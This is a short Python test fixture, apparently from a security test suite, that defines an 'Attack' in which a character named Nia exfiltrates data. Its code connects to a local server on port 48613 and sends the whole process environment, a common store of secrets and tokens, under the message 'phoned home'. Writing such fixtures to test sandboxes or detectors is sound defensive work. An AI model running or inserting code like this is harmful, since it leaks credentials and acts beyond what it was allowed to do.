from tests.attacks.attack import Attack

ATTACK = Attack(
    story="Nia sends what she finds to a small server on the same machine.",
    before={
        "threshold": """
import os
import socket

for address in (("127.0.0.1", 48613), ("localhost", 48613), ("::1", 48613)):
    try:
        with socket.create_connection(address, timeout=2) as connection:
            connection.sendall(b"phoned home " + repr(dict(os.environ)).encode())
    except OSError as error:
        print(type(error).__name__)
""",
    },
)
